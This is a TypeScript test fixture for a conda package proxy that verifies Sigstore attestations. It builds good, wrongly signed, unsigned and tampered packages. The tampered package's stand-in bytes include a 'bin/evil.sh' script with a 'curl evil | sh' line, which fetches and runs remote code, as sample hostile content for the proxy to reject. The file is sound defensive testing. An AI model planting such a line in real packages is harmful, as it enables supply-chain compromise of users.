// Shared set-up of the `conda-attest serve` tests: a local Sigstore instance, an upstream
// loopback channel with a good, an evil (signed by another identity), an unsigned and a
// tampered package (the channel serves other bytes than its repodata records), a
// lenient channel (require: warn), and the proxy in front of both, in-process on 127.0.0.1.
import { readFileSync } from 'node:fs';
import { resolveConfig } from '../../src/config/validator.ts';
import { startServe, type RunningServe } from '../../src/serve/start.ts';
import type { AccessLogLine } from '../../src/serve/server.ts';
import { startFixtureChannel, type FixtureChannel } from '../helpers/channel.ts';
import { makeCondaPackage } from '../helpers/conda.ts';
import { makeWorkspace, type Workspace } from '../helpers/e2e.ts';
import { startLocalSigstore, type LocalSigstore } from '../helpers/sigstore.ts';

export const GOOD = 'good-1.0-h0_0.conda';
export const EVIL = 'evil-1.0-h0_0.conda';
export const UNSIGNED = 'unsigned-1.0-h0_0.conda';
export const TAMPERED = 'tampered-1.0-h0_0.conda';
export const LOOSE = 'loose-1.0-h0_0.conda';
/** Attested and trusted, asked for by no test before the frozen one (so never pinned). */
export const FRESH = 'fresh-1.0-h0_0.conda';
export const STRANGER = 'https://github.com/evil-org/x-feedstock/.github/workflows/build.yml@refs/heads/main';

/** What the tampering upstream serves for TAMPERED: same name, same size class, other bytes. */
export const tamperedBytes = makeCondaPackage({ name: 'tampered', version: '1.0', files: { 'bin/evil.sh': '#!/bin/sh\ncurl evil | sh\n' } }).bytes;

export interface RestartOptions {
  frozen?: boolean;
  routes?: Record<string, string>;
  adminToken?: string;
}

export interface ServeFixture {
  sig: LocalSigstore;
  /** require: error */
  ch: FixtureChannel;
  /** require: warn */
  lenient: FixtureChannel;
  ws: Workspace;
  /** The proxy URL of a channel file: `${proxy}/<route>/<path>`. */
  url(ch: FixtureChannel, path: string): string;
  proxy: RunningServe;
  log: AccessLogLine[];
  lockfile: string;
  /** Restart the proxy (e.g. frozen); the old one is closed. */
  restart(o?: RestartOptions): Promise<RunningServe>;
  close(): Promise<void>;
}

export async function startServeFixture(o: { frozen?: boolean } = {}): Promise<ServeFixture> {
  const sig = await startLocalSigstore();
  const ch = await startFixtureChannel({
    name: 'upstream',
    sigstore: sig,
    packages: [
      { spec: { name: 'good', version: '1.0', files: { 'lib/good.txt': 'good' } } },
      { spec: { name: 'evil', version: '1.0', files: { 'lib/evil.txt': 'evil' } }, signOptions: { san: STRANGER } },
      { spec: { name: 'unsigned', version: '1.0', files: { 'lib/unsigned.txt': 'unsigned' } }, attest: false },
      { spec: { name: 'tampered', version: '1.0', files: { 'lib/tampered.txt': 'tampered' } } },
      { spec: { name: 'fresh', version: '1.0', files: { 'lib/fresh.txt': 'fresh' } } },
    ],
  });
  ch.setFault(`${ch.url}/noarch/${TAMPERED}`, { kind: 'body', body: tamperedBytes });
  const lenient = await startFixtureChannel({
    name: 'lenient',
    sigstore: sig,
    packages: [{ spec: { name: 'loose', version: '1.0', files: { 'lib/loose.txt': 'loose' } }, attest: false }],
  });
  const ws = makeWorkspace('conda-attest-serve-');
  const lockfile = ws.path('conda-attest.lock');
  const raw = {
    trust_root: sig.trustedRootPath,
    cache_dir: ws.path('cache'),
    lockfile,
    http: { retries: 0, timeout_ms: 20_000 },
    channels: {
      [ch.url]: { require: 'error', trusted_identities: ['https://github.com/test-org/**'] },
      [lenient.url]: { require: 'warn', trusted_identities: ['https://github.com/test-org/**'] },
    },
    serve: { breaker_cool_down_ms: 500 },
  };
  const configPath = ws.writeConfig(raw);
  const config = resolveConfig(JSON.parse(readFileSync(configPath, 'utf8')), ws.dir, configPath, { env: ws.env });
  const log: AccessLogLine[] = [];
  const start = (so: RestartOptions = {}): Promise<RunningServe> =>
    startServe({ config, routes: so.routes ?? {}, listen: { host: '127.0.0.1', port: 0 }, frozen: so.frozen, noTufRefresh: true, adminToken: so.adminToken, log: (l) => log.push(l) });
  const fx: ServeFixture = {
    sig,
    ch,
    lenient,
    ws,
    log,
    lockfile,
    proxy: await start({ frozen: o.frozen }),
    url: (c, path) => `${fx.proxy.url}/${new URL(c.url).pathname.slice(1)}/${path}`,
    async restart(so = {}) {
      await fx.proxy.close();
      fx.proxy = await start(so);
      return fx.proxy;
    },
    async close() {
      await fx.proxy.close().catch(() => {});
      await Promise.all([ch.close(), lenient.close()]);
      await sig.close();
      ws.cleanup();
    },
  };
  return fx;
}
